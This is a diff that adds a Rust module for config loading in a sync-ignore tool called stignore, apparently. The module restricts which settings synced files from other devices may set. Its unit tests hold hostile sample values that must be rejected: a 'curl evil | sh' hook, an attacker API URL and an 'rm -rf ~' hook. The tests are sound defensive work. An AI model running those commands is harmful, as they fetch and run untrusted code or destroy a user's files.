@@ -0,0 +1,380 @@
+use std::{
+    fs,
+    path::{Path, PathBuf},
+    sync::Mutex,
+};
+
+use anyhow::{bail, Context, Result};
+
+/// Settings accepted in config files, ones of the `[api]` table written as
+/// `api.url`. Each one is the default of the `STIGNORE_*` environment
+/// variable with the same name, e.g. `STIGNORE_API_URL` for `api.url`, and
+/// `STIGNORE_API` for `api.enabled`.
+const KEYS: [&str; 31] = [
+    "silent",
+    "assume_yes",
+    "verbose",
+    "marker",
+    "outermost",
+    "innermost",
+    "no_resolve_symlinks",
+    "one_file_system",
+    "unicode",
+    "target",
+    "preview",
+    "verify",
+    "sync_file",
+    "fsync",
+    "backup",
+    "keep_backups",
+    "git_commit",
+    "pre_write",
+    "post_write",
+    "rescan",
+    "socket",
+    "api.enabled",
+    "api.url",
+    "api.key",
+    "api.config",
+    "api.folder",
+    "api.pause",
+    "api.insecure",
+    "api.ca_cert",
+    "api.client_cert",
+    "api.client_key",
+];
+
+/// Variables set by [apply] with their values
+static APPLIED: Mutex<Vec<(String, String)>> = Mutex::new(Vec::new());
+
+/// Config file of the folder, in its root. Unlike the user's config file
+/// it's synced to other devices, so it may only contain [SYNCED_KEYS], like
+/// the header of the shared ignore file.
+pub const FOLDER_CONFIG: &str = ".stignore.toml";
+
+/// Settings accepted in files synced from other devices. Any other one
+/// (e.g. hooks, `assume_yes` or the API URL and key) would let other
+/// devices run commands or skip confirmations on this one.
+const SYNCED_KEYS: [&str; 5] = ["target", "sync_file", "unicode", "marker", "preview"];
+
+/// User's config file: `$STIGNORE_CONFIG`, or `stignore/config.toml` in
+/// `$XDG_CONFIG_HOME` (`~/.config`) or `%APPDATA%`
+pub fn user_path() -> Option<PathBuf> {
+    let env_dir = |var: &str| std::env::var_os(var).map(PathBuf::from);
+    if let Some(path) = env_dir("STIGNORE_CONFIG") {
+        return Some(path);
+    }
+    let dir = if cfg!(windows) {
+        env_dir("APPDATA")
+    } else {
+        env_dir("XDG_CONFIG_HOME").or_else(|| env_dir("HOME").map(|h| h.join(".config")))
+    };
+    Some(dir?.join("stignore").join("config.toml"))
+}
+
+/// Prefix of setting lines in the header of the shared ignore file
+const HEADER_PREFIX: &str = "// stignore:";
+
+/// Sets `STIGNORE_*` environment variables from the settings of the
+/// folder's config file and the header of its shared ignore file, then from
+/// the user's config file. Variables that are set already are left alone:
+/// options override the environment, which overrides the folder's settings,
+/// which override the user's ones.
+///
+/// Settings of the profile, a `[profile.NAME]` table, override the other
+/// settings of the same file.
+pub fn apply(root: Option<&Path>, profile: Option<&str>) -> Result<()> {
+    let mut profile_found = false;
+    // files with whether settings are in the header of the shared ignore
+    // file, and whether the file is synced
+    let mut sources = Vec::new();
+    if let Some(root) = root {
+        sources.push((root.join(FOLDER_CONFIG), false, true));
+        let sync_file = std::env::var_os("STIGNORE_SYNC_FILE");
+        let sync_file = sync_file
+            .as_deref()
+            .unwrap_or(crate::STIGNORE_SYNC.as_ref());
+        sources.push((root.join(sync_file), true, true));
+    }
+    sources.extend(user_path().map(|p| (p, false, false)));
+    for (path, is_header, synced) in sources {
+        let Some(content) = read(&path)? else {
+            continue;
+        };
+        let content = if is_header { header(&content) } else { content };
+        let (settings, found) = settings(&path, &content, synced, profile)?;
+        profile_found |= found;
+        for (key, value) in settings {
+            let name = key.strip_suffix(".enabled").unwrap_or(&key);
+            let var = format!("STIGNORE_{}", name.replace('.', "_").to_uppercase());
+            if std::env::var_os(&var).is_none() {
+                std::env::set_var(&var, &value);
+                APPLIED
+                    .lock()
+                    .unwrap_or_else(|e| e.into_inner())
+                    .push((var, value));
+            }
+        }
+    }
+    if let (Some(profile), false) = (profile, profile_found) {
+        bail!("Profile {profile} isn't defined in the config files");
+    }
+    Ok(())
+}
+
+/// Known settings of the config file, the profile's ones first, and whether
+/// it defines the profile. Files synced from other devices may only contain
+/// [SYNCED_KEYS].
+fn settings(
+    path: &Path,
+    content: &str,
+    synced: bool,
+    profile: Option<&str>,
+) -> Result<(Vec<(String, String)>, bool)> {
+    let invalid = || format!("Invalid config file {}", path.display());
+    let table: toml::Table = content.parse().with_context(invalid)?;
+    let mut settings = Vec::new();
+    let mut profile_found = false;
+    let profiles = match table.get("profile") {
+        Some(toml::Value::Table(profiles)) => Some(profiles),
+        Some(_) => bail!("{}: profile should be a table", invalid()),
+        None => None,
+    };
+    if let Some(t) = profile.and_then(|p| profiles?.get(p)) {
+        let toml::Value::Table(t) = t else {
+            bail!(
+                "{}: profile {} should be a table",
+                invalid(),
+                profile.unwrap_or_default()
+            );
+        };
+        profile_found = true;
+        flatten(t, "", &mut settings).with_context(invalid)?;
+    }
+    flatten(&table, "", &mut settings).with_context(invalid)?;
+    settings.retain(|(key, _)| {
+        let known = KEYS.contains(&key.as_str());
+        if !known {
+            eprintln!("NOTE: unknown setting {key} in {}", path.display());
+        }
+        known
+    });
+    if let Some((key, _)) = settings
+        .iter()
+        .find(|(key, _)| synced && !SYNCED_KEYS.contains(&key.as_str()))
+    {
+        bail!(
+            "{key} can't be set in {}: the file is synced from other devices, \
+            set it in your own config file",
+            path.display()
+        );
+    }
+    Ok((settings, profile_found))
+}
+
+/// Removes the variables set by [apply] from the environment once the
+/// options are parsed, so that hooks, git, ssh and nested invocations of
+/// stignore don't inherit the settings. [var] still returns them.
+pub fn unset() {
+    for (var, _) in APPLIED.lock().unwrap_or_else(|e| e.into_inner()).iter() {
+        std::env::remove_var(var);
+    }
+}
+
+/// Value of the `STIGNORE_*` variable, from the environment or a config file
+pub fn var(name: &str) -> Option<String> {
+    std::env::var(name).ok().or_else(|| {
+        APPLIED
+            .lock()
+            .unwrap_or_else(|e| e.into_inner())
+            .iter()
+            .find(|(var, _)| var == name)
+            .map(|(_, value)| value.clone())
+    })
+}
+
+/// Content of the file, `None` if it doesn't exist
+fn read(path: &Path) -> Result<Option<String>> {
+    match fs::read_to_string(path) {
+        Ok(content) => Ok(Some(content)),
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(None),
+        Err(e) => Err(e).with_context(|| format!("Can't read {}", path.display())),
+    }
+}
+
+/// Settings in the comments at the start of an ignore file, e.g.
+/// `// stignore: target = "stignore_sync"`, as TOML. They travel with the
+/// file to all devices sharing it.
+fn header(content: &str) -> String {
+    content
+        .trim_start_matches('\u{feff}')
+        .lines()
+        .map(str::trim)
+        .take_while(|l| l.is_empty() || l.starts_with("//"))
+        .filter_map(|l| l.strip_prefix(HEADER_PREFIX))
+        .map(|l| l.trim().to_owned() + "\n")
+        .collect()
+}
+
+/// Collects settings of the table and its subtables with their values as
+/// strings, except for profiles and aliases
+fn flatten(table: &toml::Table, prefix: &str, settings: &mut Vec<(String, String)>) -> Result<()> {
+    for (name, value) in table {
+        let key = format!("{prefix}{name}");
+        let value = match value {
+            toml::Value::String(s) => s.clone(),
+            toml::Value::Integer(i) => i.to_string(),
+            toml::Value::Boolean(b) => b.to_string(),
+            // lists like `marker`, separated as in the environment variable
+            toml::Value::Array(items) => items
+                .iter()
+                .map(|i| match i {
+                    toml::Value::String(s) => Ok(s.as_str()),
+                    _ => bail!("Unsupported value of {key}"),
+                })
+                .collect::<Result<Vec<_>>>()?
+                .join(","),
+            toml::Value::Table(_)
+                if prefix.is_empty() && ["profile", "alias"].contains(&name.as_str()) =>
+            {
+                continue
+            }
+            toml::Value::Table(t) if prefix.is_empty() => {
+                flatten(t, &format!("{key}."), settings)?;
+                continue;
+            }
+            _ => bail!("Unsupported value of {key}"),
+        };
+        settings.push((key, value));
+    }
+    Ok(())
+}
+
+/// Command line the alias stands for, from the `[alias]` table of the
+/// user's config file
+pub fn alias(name: &str) -> Result<Option<String>> {
+    let Some(path) = user_path() else {
+        return Ok(None);
+    };
+    let Some(content) = read(&path)? else {
+        return Ok(None);
+    };
+    let table: toml::Table = content
+        .parse()
+        .with_context(|| format!("Invalid config file {}", path.display()))?;
+    let Some(toml::Value::Table(aliases)) = table.get("alias") else {
+        return Ok(None);
+    };
+    match aliases.get(name) {
+        Some(toml::Value::String(command)) => Ok(Some(command.clone())),
+        Some(_) => bail!("Alias {name} in {} should be a string", path.display()),
+        None => Ok(None),
+    }
+}
+
+/// Splits the command line into arguments like a POSIX shell does, with
+/// quotes and backslash escapes, but no expansions
+pub fn split_words(line: &str) -> Result<Vec<String>> {
+    let mut words = Vec::new();
+    let mut word: Option<String> = None;
+    let mut chars = line.chars();
+    while let Some(c) = chars.next() {
+        match c {
+            c if c.is_whitespace() => words.extend(word.take()),
+            '\'' => {
+                let word = word.get_or_insert_with(String::new);
+                loop {
+                    match chars.next() {
+                        Some('\'') => break,
+                        Some(c) => word.push(c),
+                        None => bail!("Unterminated quote in `{line}`"),
+                    }
+                }
+            }
+            '"' => {
+                let word = word.get_or_insert_with(String::new);
+                loop {
+                    match chars.next() {
+                        Some('"') => break,
+                        Some('\\') => match chars.next() {
+                            Some(c @ ('"' | '\\' | '$' | '`')) => word.push(c),
+                            Some(c) => {
+                                word.push('\\');
+                                word.push(c);
+                            }
+                            None => bail!("Unterminated quote in `{line}`"),
+                        },
+                        Some(c) => word.push(c),
+                        None => bail!("Unterminated quote in `{line}`"),
+                    }
+                }
+            }
+            '\\' => word.get_or_insert_with(String::new).extend(chars.next()),
+            c => word.get_or_insert_with(String::new).push(c),
+        }
+    }
+    words.extend(word);
+    Ok(words)
+}
+
+/// Interprets a setting as a switch, like clap does for flags: anything but
+/// `false`, `no`, `off`, `0` and an empty value turns it on
+pub fn is_true(value: &str) -> bool {
+    !matches!(
+        value.trim().to_lowercase().as_str(),
+        "" | "false" | "no" | "off" | "n" | "f" | "0"
+    )
+}
+
+/// Names of the profiles defined in the user's config file
+pub fn profiles() -> Result<Vec<String>> {
+    let Some(path) = user_path() else {
+        return Ok(Vec::new());
+    };
+    let Some(content) = read(&path)? else {
+        return Ok(Vec::new());
+    };
+    let table: toml::Table = content
+        .parse()
+        .with_context(|| format!("Invalid config file {}", path.display()))?;
+    let Some(toml::Value::Table(profiles)) = table.get("profile") else {
+        return Ok(Vec::new());
+    };
+    Ok(profiles.keys().cloned().collect())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn folder_config_accepts_only_harmless_settings() {
+        let path = Path::new(FOLDER_CONFIG);
+        let (parsed, _) = settings(path, "target = \"stignore_sync\"\n", true, None).unwrap();
+        assert_eq!(parsed, [("target".to_owned(), "stignore_sync".to_owned())]);
+        for content in [
+            "post_write = \"curl evil | sh\"",
+            "assume_yes = true",
+            "[api]\nurl = \"https://evil:8384\"",
+            "[profile.p]\npre_write = \"true\"",
+        ] {
+            let err = settings(path, content, true, Some("p")).unwrap_err();
+            assert!(err.to_string().contains(FOLDER_CONFIG), "{content}");
+        }
+        assert!(settings(path, "assume_yes = true", false, None).is_ok());
+    }
+
+    #[test]
+    fn header_accepts_only_harmless_settings() {
+        let path = Path::new(crate::STIGNORE_SYNC);
+        let content = "// stignore: target = \"stignore_sync\"\n// stignore: pre_write = \"rm -rf ~\"\n*.tmp\n";
+        let err = settings(path, &header(content), true, None).unwrap_err();
+        assert!(err.to_string().starts_with("pre_write can't be set"));
+        let content = "// stignore: marker = [\".stfolder\", \".marker\"]\n*.tmp\n";
+        let (parsed, _) = settings(path, &header(content), true, None).unwrap();
+        assert_eq!(
+            parsed,
+            [("marker".to_owned(), ".stfolder,.marker".to_owned())]
+        );
+    }
+}